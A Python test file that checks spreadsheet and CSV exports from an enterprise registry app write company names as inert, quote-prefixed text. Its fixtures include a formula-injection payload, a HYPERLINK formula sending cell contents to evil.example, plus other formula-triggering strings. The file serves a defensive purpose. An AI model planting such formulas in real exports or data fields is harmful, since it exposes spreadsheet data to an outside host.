"""A department's enterprise name "=HYPERLINK(…)" never becomes a live formula in an export: the
registry export, the pool exports and the shared cell writer all write it as text (quote-prefixed)."""

from __future__ import annotations

import io

import openpyxl
import polars as pl
import pytest
import xlsxwriter

from kechuang.web.xlsx import Cells, csv_safe, formula_like
from tests.enterprises.conftest import import_population, synthetic_population

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
HOSTILE = [EVIL, "+1+1", "-1+2", "@SUM(A1:A2)", "=1+1"]


def text_cells(body: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_no_formula(body: bytes, expected: set[str]) -> None:
    cells = text_cells(body)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hostile = [c for c in cells if isinstance(c.value, str) and c.value in expected]
    assert {c.value for c in hostile} == expected
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


@pytest.fixture
def hostile_registry(personas, tmp_path):
    from kechuang.enterprises.qualification import recompute_tiers

    registry, facts = synthetic_population()
    names = [HOSTILE[i % len(HOSTILE)] for i in range(registry.height)]
    registry = registry.with_columns(pl.Series("name", names))
    import_population(registry, facts, tmp_path / "hostile")
    for year in (2023, 2024):
        recompute_tiers(year)
    return registry


def test_the_registry_export_writes_names_as_text(hostile_registry, client_for):
    response = client_for("bureau").get("/enterprises/registry/export/")
    assert response.status_code == 200
    assert_no_formula(response.content, set(HOSTILE))


def test_a_pool_export_writes_names_as_text(hostile_registry, client_for):
    from kechuang.enterprises.models import Enterprise

    assert Enterprise.objects.filter(name=EVIL).exists()  # stored as typed
    bodies = []
    for kind in ("gaoqi_reserve", "kexiao_reserve"):
        response = client_for("bureau").get(f"/enterprises/pools/{kind}/export.xlsx")
        assert response.status_code == 200
        bodies.append(response.content)
    cells = [c for body in bodies for c in text_cells(body)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hostile = [c for c in cells if c.value in HOSTILE]
    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_the_cell_writer_keeps_text_as_text():
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    cells, sheet = Cells(book), book.add_worksheet()
    for r, value in enumerate([*HOSTILE, "0012", "普通文字"]):
        cells.write(sheet, r, 0, value, {"bold": True})
    cells.write(sheet, 10, 0, float("inf"))
    cells.write(sheet, 11, 0, 4.5)
    book.close()
    book = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    column = [c for c in book.active["A"]]
    assert [c.value for c in column[:7]] == [*HOSTILE, "0012", "普通文字"]
    assert all(c.data_type == "s" for c in column[:7])
    assert [c.quotePrefix for c in column[:7]] == [True] * 5 + [False] * 2
    assert all(c.font.b for c in column[:7])
    assert (column[10].value, column[10].data_type) == ("inf", "s")
    assert (column[11].value, column[11].data_type) == (4.5, "n")


def test_csv_values_are_neutralised():
    assert all(formula_like(v) for v in HOSTILE)
    assert csv_safe(EVIL) == "'" + EVIL and csv_safe("东莞") == "东莞" and csv_safe(3) == 3
